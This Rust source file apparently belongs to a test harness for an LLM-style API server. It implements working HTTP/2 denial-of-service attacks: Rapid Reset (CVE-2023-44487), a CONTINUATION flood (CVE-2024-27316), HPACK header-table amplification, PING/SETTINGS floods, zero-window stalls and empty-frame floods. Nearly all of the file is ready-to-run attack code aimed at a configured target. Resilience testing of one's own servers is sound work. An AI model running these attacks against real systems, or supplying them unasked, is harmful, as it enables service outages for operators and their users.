//! Attacks by frames of HTTP/2.

use std::io::Write as _;
use std::net::TcpStream;
use std::time::Duration;

use crate::ground::Ground;
use crate::support::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, block, frame, request,
};
use crate::wire::listen;

/// SETTINGS_INITIAL_WINDOW_SIZE = 0
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

fn opened(ground: &Ground) -> Option<TcpStream> {
    let mut stream = ground.connect()?;
    stream.write_all(PREFACE).ok()?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).ok()?;
    Some(stream)
}

/// Streams without a key that send bodies.
pub(crate) fn keyless_streams(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let head = block(&request("POST", "/v1/chat/completions"));
    let piece = vec![b' '; 16_384];
    for id in (1..256).step_by(2) {
        let sent = stream.write_all(&frame(HEADERS, END_HEADERS, id, &head));
        if sent.is_err() || stream.write_all(&frame(DATA, 0, id, &piece)).is_err() {
            break;
        }
    }
    listen(&mut stream);
}

/// Streams that are reset as soon as they are opened (CVE-2023-44487).
pub(crate) fn rapid_resets(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let head = block(&request("GET", "/v1/models"));
    for id in (1..4000).step_by(2) {
        let mut both = frame(HEADERS, END_HEADERS | END_STREAM, id, &head);
        both.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
        if stream.write_all(&both).is_err() {
            break;
        }
    }
    listen(&mut stream);
}

/// Frames that ask for an answer each, and are never read.
pub(crate) fn control_frames(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    for _ in 0..20_000 {
        let mut both = frame(PING, 0, 0, b"12345678");
        both.extend(frame(SETTINGS, 0, 0, &[]));
        if stream.write_all(&both).is_err() {
            break;
        }
    }
}

/// Answers over HTTP/2 that nobody makes room for.
pub(crate) fn closed_windows(ground: &Ground, key: &str) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let _ = stream.write_all(&frame(SETTINGS, 0, 0, &NO_WINDOW));
    let bearer = format!("Bearer {key}");
    let mut headers = request("GET", "/v1/models");
    headers.push(("authorization", &bearer));
    let head = block(&headers);
    for id in (1..256).step_by(2) {
        if stream
            .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &head))
            .is_err()
        {
            break;
        }
    }
    std::thread::sleep(Duration::from_millis(500));
}

/// Pages that are taken a byte at a time.
pub(crate) fn narrow_windows(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let _ = stream.write_all(&frame(SETTINGS, 0, 0, &NO_WINDOW));
    let head = block(&request("GET", "/openapi.json"));
    let ids = || (1..200).step_by(2);
    for id in ids() {
        let _ = stream.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &head));
    }
    for _ in 0..10 {
        let updates: Vec<u8> = ids()
            .flat_map(|id| frame(WINDOW_UPDATE, 0, id, &1u32.to_be_bytes()))
            .collect();
        if stream.write_all(&updates).is_err() {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A head in pieces without end (CVE-2024-27316).
pub(crate) fn continuations(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let head = block(&request("GET", "/v1/models"));
    let _ = stream.write_all(&frame(HEADERS, END_STREAM, 1, &head));
    let more = block(&[("x-more", &"x".repeat(4000))]);
    for _ in 0..2000 {
        if stream.write_all(&frame(CONTINUATION, 0, 1, &more)).is_err() {
            return;
        }
    }
    listen(&mut stream);
}

/// Frames that say nothing.
pub(crate) fn empty_frames(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let head = block(&request("POST", "/v1/completions"));
    let _ = stream.write_all(&frame(HEADERS, END_HEADERS, 1, &head));
    let mut nothing = frame(DATA, 0, 1, &[]);
    nothing.extend(frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]));
    nothing.extend(frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()));
    let many = nothing.repeat(1000);
    for _ in 0..40 {
        if stream.write_all(&many).is_err() {
            return;
        }
    }
    listen(&mut stream);
}

/// A long header that is kept once and named many times (CVE-2016-6581).
pub(crate) fn header_tables(ground: &Ground) {
    let Some(mut stream) = opened(ground) else {
        return;
    };
    let mut head = block(&request("GET", "/v1/models"));
    // A literal that the table keeps (RFC 7541, 6.2.1), of 3,000 bytes.
    head.extend([0x40, 1, b'x', 127]);
    head.extend([0xb9, 0x16]);
    head.extend([b'v'; 3000]);
    // The first entry of the dynamic table.
    head.extend([0xbe; 10_000]);
    for id in (1..40).step_by(2) {
        if stream
            .write_all(&frame(HEADERS, END_HEADERS | END_STREAM, id, &head))
            .is_err()
        {
            return;
        }
    }
    listen(&mut stream);
}
